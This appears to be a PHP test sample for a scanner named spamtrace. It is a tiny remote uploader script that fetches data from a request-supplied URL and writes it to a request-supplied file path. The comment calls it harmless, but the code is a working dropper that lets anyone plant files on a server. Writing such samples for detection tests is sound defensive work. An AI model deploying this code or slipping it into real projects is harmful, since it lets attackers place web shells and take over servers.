<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A remote uploader written with fopen(): opens the name the request gives for writing and
// stores in it what it fetched from the address the request names.
$data = file_get_contents($_POST['from']);
$out = fopen($_POST['name'], 'w');
fwrite($out, $data);
fclose($out);
echo 'done';
